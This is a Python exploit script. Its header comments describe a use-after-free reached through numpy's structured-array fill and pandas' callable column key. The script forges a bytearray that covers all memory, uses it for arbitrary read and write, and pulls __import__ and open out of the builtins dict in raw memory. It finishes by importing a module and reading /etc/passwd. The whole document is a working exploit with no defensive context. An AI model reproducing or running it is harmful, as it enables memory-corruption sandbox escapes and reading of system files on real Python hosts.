# source: numpy arraytypes.c VOID_setitem (fills a structured row from a tuple's items without a reference) + pandas DataFrame.__getitem__ -> com.apply_if_callable; CPython 3.11 object layouts (default hash() = address >> 4, PyByteArrayObject, PyFunctionObject.func_builtins, PyDictKeysObject)
# family: conversion (__float__) with a callable subscript key frees the row tuple numpy is filling; freed memory refilled so numpy stores a forged bytearray (base 0, length 2**62) in an object field: arbitrary memory read/write
# goal: reads builtins out of memory and plants __import__ and open in an object's slot: imports 'this' (Zen printed) and reads /etc/passwd
import sys
import numpy as np
import pandas as pd

FRAME = pd.DataFrame({"a": [0.0]})
DONE = []
KEEP = []
BIG = 1 << 62
NF = 26


def le(v):
    return (v).to_bytes(8, "little")


class X:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __init__(self):
        self.a = 1


class K:
    __slots__ = ("a",)

    def __init__(self):
        self.a = 1


KOBJ = K()
KADDR = hash(KOBJ) * 16
HOST = [X()]
FAKE_ADDR = hash(HOST[0]) * 16
FAKE = bytes(16) + le(1 << 20) + le(hash(bytearray) * 16) + le(BIG) + le(BIG) + le(0) + le(0) + le(0) + bytes(7)
ROWBUF = bytes(16) + le(1 << 20) + le(hash(tuple) * 16) + le(NF) + le(KADDR) + le(FAKE_ADDR) + le(KADDR) * (NF - 2)
ROWBUF = ROWBUF + bytes(255 - len(ROWBUF))


def pick(frame):
    if not DONE:
        DONE.append(1)
        # 1: an object of known address is freed and its memory becomes a fake bytearray header
        HOST[0] = None
        KEEP.append(bytearray(FAKE))
        # 2: the row tuple numpy is filling from is freed; its memory gets item pointers we wrote
        LST[0] = None
        KEEP.append(bytearray(ROWBUF))
    return "a"


class A:
    def __float__(self):
        return float(FRAME[pick].iloc[0])


DT = [("a", "f8"), ("b", "O")] + [("c%d" % k, "O") for k in range(NF - 2)]
LST = [tuple([A(), K()] + [KOBJ] * (NF - 2))]
arr = np.array(LST, dtype=DT)
MEM = arr[0]["b"]
print("field b is a", type(MEM).__name__, "of length", len(MEM))


def rd(a):
    return int.from_bytes(MEM[a:a + 8], "little")


def wr(a, v):
    MEM[a:a + 8] = le(v)


def helper():
    return 0


faddr = hash(helper) * 16
bdict = rd(faddr + 24)
keys = rd(bdict + 32)
kind = MEM[keys + 10]
nent = rd(keys + 24)
ent0 = keys + 32 + (1 << MEM[keys + 9])
esz = 16 if kind else 24
koff = 0 if kind else 8
found = {}
k = 0
while k < nent:
    e = ent0 + k * esz
    kp = rd(e + koff)
    if kp:
        n = rd(kp + 16)
        name = bytes(MEM[kp + 48:kp + 48 + n])
        if name == b"open" or (n == 10 and name[2:8] == b"import" and name[0] == 95):
            found[name[2:8] if n == 10 else name] = rd(e + koff + 8)
    k += 1
print("builtins found in memory:", sorted(found))


def grab(ptr):
    box = K()
    box.a = None
    wr(hash(box) * 16 + 16, ptr)
    wr(ptr, rd(ptr) + 1)
    return box.a


imp = grab(found[b"import"])
print("got", imp)
imp("this")
reader = grab(found[b"open"])
print(reader(chr(47) + "etc" + chr(47) + "passwd").read()[:200])
sys.stdout.flush()
